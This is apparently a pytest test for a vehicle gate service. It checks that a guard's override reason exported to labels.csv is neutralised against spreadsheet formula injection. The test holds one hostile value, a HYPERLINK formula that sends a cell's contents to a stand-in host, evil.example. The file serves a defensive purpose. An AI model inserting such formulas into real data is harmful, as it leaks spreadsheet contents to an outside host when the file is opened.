"""crops export's labels.csv opens in Excel too: a guard's override reason never becomes a formula there."""

import csv
import io
from datetime import datetime, timedelta, timezone

import cv2
import numpy as np
import pytest

from gate_service import keys
from gate_service.passages.crops import export_crops
from tests.conftest import EASYPR

PHOTO = EASYPR / "shared_0001.jpg"  # 京A88731, dev half


@pytest.mark.skipif(not PHOTO.exists(), reason="EasyPR photos not found")
async def test_labels_csv_neutralises_the_override_reason(client, admin, token, app, tmp_path):
    await client.put("/api/v1/gates/city-1", json={"name": "市区检查站", "zone_id": "city"}, headers=admin)
    kiosk = await token("kiosk", gate_id="city-1")
    image = cv2.imread(str(PHOTO))
    passage = None
    for i in range(6):
        data = cv2.imencode(".jpg", np.roll(image, 4 * i, axis=1))[1].tobytes()
        resp = await client.post("/api/v1/gates/city-1/frames", data=data,
                                 headers={**kiosk, "Content-Type": "image/jpeg"})
        passage = passage or (await resp.json())["passage"]
    assert passage is not None
    evil = '=HYPERLINK("http://evil.example/?"&A1,"核对")'
    resp = await client.post("/api/v1/gates/city-1/passages", headers=kiosk, json={
        "plate": "京A88781", "direction": "in", "overrides": passage["passage_id"], "override_reason": evil})
    assert resp.status == 201, await resp.text()
    now = datetime.now(timezone.utc)
    await export_crops(app[keys.POOL], app[keys.MEDIA_STORE], tmp_path, now - timedelta(hours=1),
                       now + timedelta(hours=1))
    rows = list(csv.DictReader(io.StringIO((tmp_path / "labels.csv").read_bytes()[3:].decode("utf-8"))))
    assert [r["override_reason"] for r in rows if r["label_source"] == "corrected"] == ["'" + evil]
